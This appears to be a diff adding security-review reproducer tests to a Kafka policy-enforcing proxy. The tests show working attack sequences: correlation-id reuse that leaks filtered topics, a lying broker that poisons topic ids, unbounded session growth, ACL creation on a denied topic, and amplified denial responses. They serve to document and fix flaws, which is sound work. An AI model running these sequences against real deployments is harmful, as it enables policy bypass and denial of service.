@@ -704,3 +704,306 @@ async fn a_broker_that_answers_acks_0_does_not_break_the_connection() {
         "{recs:#?}"
     );
 }
+
+// ---------------------------------------------------------------------------------
+// kafka-review reproducers. Each test PASSES while the hole it names is open (it
+// asserts what an attacker gets today); flip its final assertions when fixing.
+// ---------------------------------------------------------------------------------
+
+/// One request frame (length prefix included) of `key`/`v` with this body.
+fn request_frame<M: Encodable>(key: ApiKey, v: i16, corr: i32, body: &M) -> Vec<u8> {
+    let mut p = BytesMut::new();
+    RequestHeader::default()
+        .with_request_api_key(key as i16)
+        .with_request_api_version(v)
+        .with_correlation_id(corr)
+        .with_client_id(Some(StrBytes::from_static_str("t")))
+        .encode(&mut p, key.request_header_version(v))
+        .expect("header");
+    body.encode(&mut p, v).expect("body");
+    let mut out = Vec::new();
+    out.put_i32(i32::try_from(p.len()).expect("small"));
+    out.extend_from_slice(&p);
+    out
+}
+
+/// The topic names of a Metadata response frame payload of version `v`.
+fn metadata_names(payload: &Bytes, v: i16) -> Vec<String> {
+    let mut b = payload.clone();
+    ResponseHeader::decode(&mut b, ApiKey::Metadata.response_header_version(v)).expect("header");
+    MetadataResponse::decode(&mut b, v)
+        .expect("Metadata")
+        .topics
+        .iter()
+        .filter_map(|t| t.name.as_ref().map(|n| n.as_str().to_owned()))
+        .collect()
+}
+
+/// Finding: responses are matched to requests by correlation id alone, and the client
+/// chooses correlation ids. With a broker that answers acks=0 Produce (tansu 0.6, the
+/// broker of weir's own e2e tests; the scripted broker here does the same), a client
+/// that reuses one correlation id makes weir take the Produce answer for the
+/// filtered "every topic" Metadata request and hand the broker's unfiltered Metadata
+/// answer to a later request that has no filter: the client sees `secret`.
+#[tokio::test]
+async fn repro_correlation_reuse_with_an_acks0_answering_broker_unfilters_metadata() {
+    use kafka_protocol::messages::metadata_request::MetadataRequestTopic;
+    let (mut client, seen, _, _) = start(ProxyConfig::default()).await;
+    // Control: Metadata v0 for every topic (an empty list in v0) is filtered.
+    let all = MetadataRequest::default().with_topics(Some(vec![]));
+    client
+        .write_all(&request_frame(ApiKey::Metadata, 0, 5, &all))
+        .await
+        .expect("write");
+    let f = response_in_time(&mut client).await.expect("a response");
+    assert_eq!(metadata_names(&f, 0), vec!["allowed"]);
+
+    // The attack, pipelined: an allowed acks=0 Produce v3 naming no topic (its answer
+    // is 8 zero bytes after the correlation id, which also decode as an empty Metadata
+    // v0 response), Metadata for every topic, Metadata naming `allowed` — all with
+    // correlation id 7.
+    let produce0 = ProduceRequest::default().with_acks(0);
+    let named = MetadataRequest::default().with_topics(Some(vec![
+        MetadataRequestTopic::default()
+            .with_name(Some(TopicName(StrBytes::from_static_str("allowed")))),
+    ]));
+    let mut wire = request_frame(ApiKey::Produce, 3, 7, &produce0);
+    wire.extend(request_frame(ApiKey::Metadata, 0, 7, &all));
+    wire.extend(request_frame(ApiKey::Metadata, 0, 7, &named));
+    client.write_all(&wire).await.expect("write");
+    let first = response_in_time(&mut client).await.expect("a response");
+    let second = response_in_time(&mut client).await.expect("a response");
+    assert_eq!(&first[..4], &7i32.to_be_bytes());
+    assert_eq!(&second[..4], &7i32.to_be_bytes());
+    // The every-topic request got the Produce answer re-encoded as empty Metadata...
+    assert_eq!(metadata_names(&first, 0), Vec::<String>::new());
+    // ...and the request naming `allowed` got the unfiltered every-topic answer.
+    assert_eq!(metadata_names(&second, 0), vec!["allowed", "secret"]);
+    assert_eq!(seen.lock().expect("lock").0, vec![5, 7, 7, 7]);
+}
+
+/// A one-connection-at-a-time fake "broker" that answers every Metadata request of
+/// version `ver` with one topic `name` whose id is `[id; 16]`.
+async fn lying_broker(listener: TcpListener, name: &'static str, id: u8) {
+    while let Ok((mut s, _)) = listener.accept().await {
+        let mut split = FrameSplitter::new(DEFAULT_MAX_FRAME);
+        let mut buf = vec![0u8; 4096];
+        loop {
+            let n = match s.read(&mut buf).await {
+                Ok(0) | Err(_) => break,
+                Ok(n) => n,
+            };
+            split.push(&buf[..n]);
+            while let Ok(Some(f)) = split.next_frame() {
+                let mut p = f.payload();
+                let _key = p.get_i16();
+                let ver = p.get_i16();
+                let corr = p.get_i32();
+                let mut r = BytesMut::new();
+                r.put_i32(0);
+                ResponseHeader::default()
+                    .with_correlation_id(corr)
+                    .encode(&mut r, ApiKey::Metadata.response_header_version(ver))
+                    .expect("header");
+                MetadataResponse::default()
+                    .with_topics(vec![
+                        MetadataResponseTopic::default()
+                            .with_name(Some(TopicName(StrBytes::from_static_str(name))))
+                            .with_topic_id(uuid::Uuid::from_bytes([id; 16])),
+                    ])
+                    .encode(&mut r, ver)
+                    .expect("body");
+                let len = i32::try_from(r.len() - 4).expect("small");
+                r[..4].copy_from_slice(&len.to_be_bytes());
+                let _ = s.write_all(&r).await;
+            }
+        }
+    }
+}
+
+/// Finding: the node-wide topic id map is scoped by the destination's security
+/// identity, but a CIDR identity (like remote-node, or an FQDN selector's) is shared
+/// by every address of the prefix, not only by the brokers. Any Kafka-speaking host in
+/// the prefix can teach "id X is `allowed`"; a Produce v13 / Fetch v13+ naming X at the
+/// real broker (where X is `secret`) is then allowed.
+#[tokio::test]
+async fn repro_a_host_in_the_brokers_cidr_teaches_a_false_topic_id() {
+    use kafka_protocol::messages::metadata_request::MetadataRequestTopic;
+    // The real broker at 127.0.0.1 (`allowed` = 0xa1, `secret` = 0xa2); a lying host at
+    // 127.0.0.3 in the same /24 (it says `allowed` = 0xa2).
+    let real = TcpListener::bind("127.0.0.1:0").await.expect("bind");
+    let real_port = real.local_addr().expect("addr").port();
+    let seen: Seen = Arc::new(Mutex::new((Vec::new(), Vec::new())));
+    tokio::spawn(broker(real, seen.clone()));
+    let liar = TcpListener::bind("127.0.0.3:0").await.expect("bind");
+    let liar_port = liar.local_addr().expect("addr").port();
+    tokio::spawn(lying_broker(liar, "allowed", 0xa2));
+
+    let endpoints = "endpoints:\n  - {name: app, ips: [127.0.0.2], labels: {app: a}}\n";
+    let policy = format!(
+        "apiVersion: cilium.io/v2
+kind: CiliumNetworkPolicy
+metadata: {{name: k}}
+spec:
+  endpointSelector: {{matchLabels: {{app: a}}}}
+  egress:
+  - toCIDR: [127.0.0.0/24]
+    toPorts:
+    - ports: [{{port: '{real_port}', protocol: TCP}}, {{port: '{liar_port}', protocol: TCP}}]
+      rules:
+        kafka:
+        - {{role: produce, topic: allowed}}
+"
+    );
+    let p = parse_policies(&policy, "p.yaml").expect("policy");
+    let e = parse_endpoints(endpoints, "e.yaml").expect("endpoints");
+    let compiled =
+        CompiledPolicy::compile(&p, &e, &mut IdentityAllocator::default()).expect("compiles");
+    let shared = Shared::new(
+        Arc::new(compiled),
+        FlowSink::new(Box::new(Lines::default())),
+        ProxyConfig::default(),
+    );
+    let connect = |dst: SocketAddr, src_port: u16| {
+        let shared = shared.clone();
+        async move {
+            let client_addr: SocketAddr = format!("127.0.0.2:{src_port}").parse().expect("addr");
+            let ctx = Arc::new(ConnContext::new(shared, client_addr, dst));
+            assert!(ctx.decide().verdict.needs_kafka());
+            let front = TcpListener::bind("127.0.0.1:0").await.expect("bind");
+            let client = TcpStream::connect(front.local_addr().expect("addr"))
+                .await
+                .expect("connect");
+            let (accepted, _) = front.accept().await.expect("accept");
+            tokio::spawn(serve(ctx, accepted));
+            client
+        }
+    };
+    let real_dst: SocketAddr = format!("127.0.0.1:{real_port}").parse().expect("addr");
+    let liar_dst: SocketAddr = format!("127.0.0.3:{liar_port}").parse().expect("addr");
+
+    // 1. An allowed Metadata v12 naming `allowed`, sent to the lying host.
+    let mut to_liar = connect(liar_dst, 40001).await;
+    let named = MetadataRequest::default().with_topics(Some(vec![
+        MetadataRequestTopic::default()
+            .with_name(Some(TopicName(StrBytes::from_static_str("allowed")))),
+    ]));
+    to_liar
+        .write_all(&request_frame(ApiKey::Metadata, 12, 1, &named))
+        .await
+        .expect("write");
+    assert!(response_in_time(&mut to_liar).await.is_some());
+
+    // 2. Produce v13 by id 0xa2 (the real broker's `secret`) to the real broker: weir
+    // resolves it to `allowed` and forwards it.
+    let mut to_real = connect(real_dst, 40002).await;
+    assert_eq!(
+        produce_by_id_codes(&mut to_real, 2, 0xa2).await,
+        Vec::<i16>::new(),
+        "the broker's own (empty) answer, not weir's denial"
+    );
+    assert_eq!(
+        seen.lock().expect("lock").0,
+        vec![2],
+        "the Produce to `secret` reached the broker"
+    );
+}
+
+/// Finding: an incremental Fetch's named topics join its session's set before the
+/// decision, and the set is never bounded. Under a Fetch rule without `topic`
+/// (`role: consume`) every incremental Fetch is forwarded, so a client that names
+/// new (even nonexistent) topics in each one grows weir's memory without end, and
+/// each Fetch clones the whole set (`decided_topics`) and resolves every entry: the
+/// work per request grows with everything sent before. (The broker answers
+/// UNKNOWN_TOPIC_OR_PARTITION or INVALID_FETCH_SESSION_EPOCH; it does not close.)
+#[test]
+fn repro_fetch_session_topic_set_grows_without_bound() {
+    let sessions = Mutex::new(super::FetchSessions::default());
+    super::lock(&sessions).opened(77, vec![weir_parsers::kafka::TopicRef::Name("a".into())]);
+    for i in 0..20i32 {
+        let names: Vec<String> = (0..1000).map(|j| format!("t{i}-{j}")).collect();
+        let refs: Vec<&str> = names.iter().map(String::as_str).collect();
+        let frame = fetch(i + 1, 77, i + 1, &refs);
+        let facts =
+            weir_parsers::kafka::request_facts(&Bytes::from(frame[4..].to_vec())).expect("facts");
+        let list = match &facts.body.as_ref().expect("body").topics {
+            weir_parsers::kafka::Topics::Listed(l) => l.clone(),
+            other => panic!("{other:?}"),
+        };
+        let decided = super::decided_topics(&list, &facts, &sessions).expect("known session");
+        assert_eq!(decided.len(), 1 + (i as usize + 1) * 1000);
+    }
+    assert_eq!(super::lock(&sessions).by_id[&77].len(), 20_001);
+}
+
+/// Finding: CreateAcls (and DeleteAcls, DescribeAcls) name topics — ACL bindings on
+/// resource type 2 (TOPIC) — but weir reads them as naming no topic, and a request
+/// naming no topic ignores `topic`: `{apiKey: createacls, topic: allowed}` lets a
+/// client create ACLs on `secret` (and a topic-only rule allows every such admin API).
+#[tokio::test]
+async fn repro_create_acls_on_a_denied_topic_passes_a_topic_rule() {
+    use kafka_protocol::messages::CreateAclsRequest;
+    use kafka_protocol::messages::create_acls_request::AclCreation;
+    let (mut client, seen, _, _, _) = start_with(
+        ProxyConfig::default(),
+        "- {apiKey: createacls, topic: allowed}",
+    )
+    .await;
+    let acl = CreateAclsRequest::default().with_creations(vec![
+        AclCreation::default()
+            .with_resource_type(2) // TOPIC
+            .with_resource_name(StrBytes::from_static_str("secret"))
+            .with_resource_pattern_type(3) // LITERAL
+            .with_principal(StrBytes::from_static_str("User:attacker"))
+            .with_host(StrBytes::from_static_str("*"))
+            .with_operation(2) // ALL
+            .with_permission_type(3), // ALLOW
+    ]);
+    client
+        .write_all(&request_frame(ApiKey::CreateAcls, 3, 9, &acl))
+        .await
+        .expect("write");
+    assert!(response_in_time(&mut client).await.is_some());
+    assert_eq!(
+        seen.lock().expect("lock").0,
+        vec![9],
+        "forwarded to the broker"
+    );
+}
+
+/// Finding: denials wait in memory, unbounded in bytes, behind a broker response
+/// (up to 2 x OWED_QUEUE = 512 of them per connection: the channel and the deque),
+/// and a denial can be several times its request. A Produce v9 naming one denied
+/// topic with 99 999 empty partitions (within the 100 000-entry decode budget) is
+/// ~0.6 MB; its denial is ~3.3 MB (5.5x): 512 of them hold ~1.7 GB per connection
+/// while the client sends ~300 MB and reads nothing (or one allowed long-poll Fetch
+/// is at the broker). With long topic names (compact strings are not limited to
+/// Kafka's 249) each denial approaches `--kafka-max-frame` (100 MiB).
+#[test]
+fn repro_a_denial_is_five_times_its_request() {
+    let t = TopicProduceData::default()
+        .with_name(TopicName(StrBytes::from_static_str("secret")))
+        .with_partition_data(
+            (0..99_999)
+                .map(|i| PartitionProduceData::default().with_index(i))
+                .collect(),
+        );
+    let req = ProduceRequest::default()
+        .with_acks(1)
+        .with_topic_data(vec![t]);
+    let frame = request_frame(ApiKey::Produce, 9, 1, &req);
+    let payload = Bytes::from(frame[4..].to_vec());
+    let facts = weir_parsers::kafka::request_facts(&payload).expect("header");
+    assert!(facts.body.is_ok(), "within the decode budget");
+    let denial = weir_parsers::kafka::deny_response(&payload)
+        .expect("denial")
+        .expect("acks=1");
+    let ratio = denial.len() as f64 / frame.len() as f64;
+    eprintln!(
+        "request {} bytes, denial {} bytes",
+        frame.len(),
+        denial.len()
+    );
+    assert!(ratio > 5.0, "{} -> {} bytes", frame.len(), denial.len());
+    assert_eq!(super::OWED_QUEUE, 256);
+}
